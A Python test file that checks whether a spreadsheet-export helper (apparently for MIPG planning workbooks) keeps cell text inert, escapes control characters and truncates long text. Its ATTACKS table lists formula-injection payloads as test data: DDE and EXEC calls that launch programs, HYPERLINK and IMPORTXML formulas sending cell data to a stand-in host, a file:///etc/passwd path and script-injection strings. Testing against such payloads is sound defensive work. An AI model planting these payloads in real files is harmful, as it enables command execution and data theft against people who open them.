import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from plan_workbook_builders import accion, content, package_parts, returned, sent_sheets, written

from mipg_helpers.plan_workbook.cells_text import (
    CUT_MARK,
    MAX_UNITS,
    csv_text,
    fit,
    header_text,
    is_cut,
    looks_like_formula,
    plain,
)
from mipg_helpers.reference.plan_cells import CellKey

ATTACKS = {
    "igual": "=1+1",
    "mas": "+1+1",
    "menos": "-1+1",
    "arroba": "@SUM(A1)",
    "tabulador": "\t=1+1",
    "retorno": "\r=1+1",
    "dde": "=cmd|'/C calc'!A0",
    "hyperlink": '=HYPERLINK("http://malo.example/?x="&A1;"Ver")',
    "importxml": '=IMPORTXML("http://malo.example","//a")',
    "javascript": "javascript:alert(1)",
    "archivo": "file:///etc/passwd",
    "html": "<img src=x onerror=alert(1)>&amp;",
    "macro_excel4": '=EXEC("calc.exe")',
    "ancho_completo": "＝1+1",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_stays_text_in_the_workbook(tmp_path, attack):
    path = written(tmp_path, attacked(attack))
    parts = package_parts(path)
    formulas = [
        line
        for name, part in parts.items()
        if name.startswith("xl/worksheets/")
        for line in part.split("<f>")[1:]
    ]
    assert all(line.startswith("IF($B") for line in formulas)
    assert not any('TargetMode="External"' in part for part in parts.values())
    assert not any(name.startswith("xl/externalLinks") for name in parts)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_comes_back_as_it_was_typed(attack):
    back = returned(sent_sheets(attacked(attack)))
    for campo in ("accion", "responsable", "unidad"):
        assert back.cells[CellKey("a" * 16, campo)] == attack.strip()
    assert not back.findings


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_computes_nothing_in_a_csv(attack):
    assert not csv_text(attack).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))


def attacked(attack):
    one = accion(accion=attack, responsable=attack, hallazgo=attack, plan=attack, unidad=attack)
    return content(
        one,
        entidad=attack,
        destinatario=attack,
        politicas=(("gobierno_digital", attack),),
        notes=(attack,),
        sources=(attack,),
    )


@given(st.text())
def test_making_a_text_plain_twice_changes_nothing(text):
    assert plain(plain(text)) == plain(text)


@given(st.text(alphabet=st.sampled_from("_x0D\r\n\tA =")))
@example("_x0_x000D_00D_")
def test_escapes_of_a_carriage_return_never_hide_another(text):
    assert plain(plain(text)) == plain(text)


def test_control_characters_and_halves_of_characters_go():
    assert plain("a\x00b\x07c\ud800d\ufffee") == "abcde"


def test_line_breaks_inside_stay():
    assert plain(" uno\r\ndos \n") == "uno\ndos"


def test_a_text_longer_than_a_cell_says_that_it_was_cut():
    text = fit("ñ" * (MAX_UNITS + 1))
    assert text.endswith(CUT_MARK)
    assert len(text) <= MAX_UNITS
    assert is_cut(text)


def test_characters_that_take_two_places_are_counted_twice():
    assert len(fit("😀" * (MAX_UNITS // 2))) == MAX_UNITS // 2
    assert is_cut(fit("😀" * MAX_UNITS))


def test_a_text_that_merely_ends_like_a_cut_one_was_not_cut():
    assert not is_cut("corto" + CUT_MARK)


def test_numbers_and_words_need_no_apostrophe():
    assert csv_text("12 de marzo") == "12 de marzo"
    assert not looks_like_formula("1-2")


def test_an_ampersand_in_a_page_header_is_no_command():
    assert header_text("Agua & Luz &P", 40) == "Agua && Luz &&P"


def test_a_long_page_header_is_cut():
    assert header_text("a" * 50, 10) == "a" * 9 + "…"
